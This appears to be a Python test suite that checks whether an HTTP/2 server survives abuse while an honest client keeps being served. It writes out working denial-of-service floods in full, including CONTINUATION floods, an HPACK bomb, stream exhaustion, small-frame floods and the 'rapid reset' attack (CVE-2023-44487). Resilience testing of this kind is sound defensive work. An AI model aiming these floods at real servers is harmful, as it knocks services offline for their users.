"""Abuse of HTTP/2 from four connections each, opened again as the server ends
them: floods of CONTINUATION, of HEADERS and RST_STREAM ("rapid reset",
CVE-2023-44487), of PING, SETTINGS and other small frames, bombs of HPACK, open
streams. One honest client sees them all; to see what one of them does to it, name
it after the seconds: `... 10 Http2Abuse.test_rapid_reset`."""

import struct
import time

import attack
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, FIRST_CALL,
                   HEADERS, NEXT_CALL, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, Connection, frame)

CONNECTIONS = 4
CHUNK = 1 << 18


def repeated(data):
    return data * (CHUNK // len(data) + 1)


def call(stream, flags=END_HEADERS):
    return frame(HEADERS, flags, stream,
                 FIRST_CALL if stream == 1 else NEXT_CALL)


def streams(count, more=b""):
    """Opens so many streams; `more(stream)` follows each."""
    return b"".join(
        call(2 * i + 1) + (more(2 * i + 1) if more else b"")
        for i in range(count))


class Http2Abuse(attack.Attack):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.honest = attack.HonestClient(cls.server.address)
        cls.honest.__enter__()

    @classmethod
    def tearDownClass(cls):
        cls.honest.__exit__()
        try:
            cls().assert_unharmed(cls.honest)
        finally:
            super().tearDownClass()

    def flood(self, first, chunk, acknowledge=True):
        """Sends `first`, then `chunk` again and again until the time is over,
        on each connection; one that the server ends is opened again."""
        connections = [0] * CONNECTIONS
        sent = [0] * CONNECTIONS
        until = attack.deadline()

        def one(i):
            while time.monotonic() < until:
                connections[i] += 1
                try:
                    with Connection(self.server.address, acknowledge) as it:
                        it.send(first, until)
                        while chunk and time.monotonic() < until:
                            sent[i] += it.send(chunk, until)
                        while time.monotonic() < until:
                            time.sleep(0.01)
                except OSError:
                    time.sleep(0.001)

        attack.in_threads(CONNECTIONS, one)
        print(f"{self.id()}: {sum(connections)} connections, "
              f"{sum(sent) / 1e6:.0f} MB sent", flush=True)

    def test_continuation_of_small_fields(self):
        fields = repeated(b"\x00\x01a\x01b")[:16000]
        self.flood(frame(HEADERS, 0, 1, FIRST_CALL),
                   repeated(frame(CONTINUATION, 0, 1, fields)))

    def test_continuation_of_one_field_each(self):
        self.flood(frame(HEADERS, 0, 1, FIRST_CALL),
                   repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")))

    def test_continuation_of_one_long_text(self):
        # A value of two gigabytes.
        self.flood(frame(HEADERS, 0, 1,
                         FIRST_CALL + b"\x00\x01a\x7f\x80\xff\xff\xff\x07"),
                   repeated(frame(CONTINUATION, 0, 1, b"x" * 16000)))

    def test_empty_continuation(self):
        self.flood(frame(HEADERS, 0, 1, FIRST_CALL),
                   repeated(frame(CONTINUATION, 0, 1)))

    def test_rapid_reset(self):
        cancel = struct.pack(">I", 8)
        self.flood(b"", streams(
            200000, lambda stream: frame(RST_STREAM, 0, stream, cancel)))

    def test_open_streams(self):
        self.flood(streams(20000), b"")

    def test_open_streams_of_one_who_takes_no_settings(self):
        self.flood(streams(20000), b"", acknowledge=False)

    def test_bomb(self):
        # A value of 4,000 bytes in the table, named 16,000 times a call.
        big = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
        data = frame(HEADERS, END_HEADERS | END_STREAM, 1, FIRST_CALL + big)
        for i in range(1, 2000):
            data += frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1,
                          b"\x83\x86" + b"\xbe" * 16000)
        self.flood(b"", data)

    def test_pings(self):
        self.flood(b"", repeated(frame(PING, 0, 0, b"pingpong")))

    def test_settings(self):
        self.flood(b"", repeated(frame(SETTINGS, 0, 0)))

    def test_empty_data(self):
        self.flood(call(1), repeated(frame(DATA, 0, 1)))

    def test_window_updates_and_priorities(self):
        self.flood(call(1), repeated(
            frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) +
            frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))))


attack.main()
